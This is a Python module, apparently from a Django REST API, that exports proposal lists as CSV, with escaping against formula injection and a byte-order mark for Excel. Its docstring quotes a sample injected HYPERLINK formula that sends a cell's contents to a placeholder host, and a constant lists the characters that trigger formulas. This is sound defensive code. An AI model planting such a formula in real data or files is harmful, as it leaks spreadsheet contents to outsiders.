"""CSV export of proposal lists, for analysts who live in spreadsheets.

Two things make the file safe and legible in a spreadsheet:

* **Formula injection** (CSV injection, OWASP:
  https://owasp.org/www-community/attacks/CSV_Injection). A cell that
  starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run
  as a formula by Excel, LibreOffice and Google Sheets; a proposal titled
  ``=HYPERLINK("http://example.invalid/?x="&A1,"click")`` would leak the
  sheet. Following OWASP's rule, :func:`csv_cell` prefixes such a cell with
  a single quote (``'``), which spreadsheets show as text. The full-width
  forms (``＝ ＋ － ＠``, which some spreadsheet locales also read as
  formulas) and a line feed are treated the same, and so is a cell that
  already starts with ``'``, so the rule is reversible: **a text cell that
  starts with ``'`` had one ``'`` added; remove it to get the stored value.**
* **Encoding.** The file is UTF-8 and starts with a byte-order mark (BOM,
  ``EF BB BF``): without it Excel reads UTF-8 as a legacy code page and
  garbles curly quotes and Chinese names. Read it as ``utf-8-sig``.
"""

import csv
import io

from rest_framework.renderers import BaseRenderer, JSONRenderer

from ..tracking.export import aliases_cell, participation_cell

#: The export's columns, in order. Stable: add new ones at the end only.
PROPOSAL_CSV_COLUMNS = [
    "slug",
    "title",
    "status",
    "status_label",
    "venue_id",
    "venue",
    "primary_proponent",
    "proponents",
    "topics",
    "proposed_on",
    "proposed_precision",
    "updated_at",
    "url",
    "participation",
    "aliases",
]


#: The byte-order mark every CSV export starts with (see the module docstring).
CSV_BOM = "\ufeff"

#: First characters that make a spreadsheet evaluate a cell (OWASP's list:
#: = + - @ tab CR), their full-width forms, a line feed, and the escape
#: character itself, so escaping stays reversible.
CSV_FORMULA_STARTS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20'")


def csv_cell(value):
    """A CSV cell for ``value``: text that a spreadsheet would run as a
    formula (or that starts with ``'``) gets a leading ``'``; other text and
    non-text values (ids, numbers) are returned unchanged. Reverse it by
    removing one leading ``'`` from a text cell that has one."""
    if isinstance(value, str) and value[:1] in CSV_FORMULA_STARTS:
        return f"'{value}"
    return value


class CSVRenderer(BaseRenderer):
    """Selected by ``?format=csv`` or ``Accept: text/csv``. The proposal
    list streams its rows itself; this renders any list of flat dicts."""

    media_type = "text/csv"
    format = "csv"
    charset = "utf-8"

    def render(self, data, accepted_media_type=None, renderer_context=None):
        response = (renderer_context or {}).get("response")
        if response is not None and response.exception:
            # An error (bad filter, 401, 429...) is problem JSON, which errors.py
            # already promised in the Content-Type; writing it as CSV gave a
            # body of just the column header under an application/problem+json
            # header, so clients could not read the reason.
            return JSONRenderer().render(data, "application/json", renderer_context)
        rows = data.get("results", []) if isinstance(data, dict) else (data or [])
        buffer = io.StringIO()
        buffer.write(CSV_BOM)
        writer = csv.DictWriter(buffer, fieldnames=PROPOSAL_CSV_COLUMNS, extrasaction="ignore")
        writer.writeheader()
        writer.writerows({key: csv_cell(value) for key, value in row.items()} for row in rows)
        return buffer.getvalue().encode(self.charset)


class Echo:
    """A file-like object whose write() hands the line back, for streaming."""

    def write(self, value):
        return value


def proposal_csv_rows(proposals, url_prefix: str):
    """Yield the BOM and CSV header, then one line per proposal (prefetched),
    every text cell passed through :func:`csv_cell`."""
    writer = csv.writer(Echo())
    yield CSV_BOM + writer.writerow(PROPOSAL_CSV_COLUMNS)
    for p in proposals:
        links = p.list_proponents()
        primary = next((link for link in links if link["primary"]), None)
        yield writer.writerow(
            csv_cell(cell)
            for cell in [
                p.slug,
                p.title,
                p.status,
                p.get_status_display(),
                p.venue_id or "",
                p.venue.name if p.venue else "",
                primary["name"] if primary else "",
                "; ".join(f"{link['name']} ({link['role']})" for link in links),
                "; ".join(topic["slug"] for topic in p.list_topics()),
                p.proposed_on.isoformat() if p.proposed_on else "",
                p.proposed_precision,
                p.updated_at.isoformat(),
                f"{url_prefix}{p.slug}/",
                participation_cell(p),
                aliases_cell(p),
            ]
        )
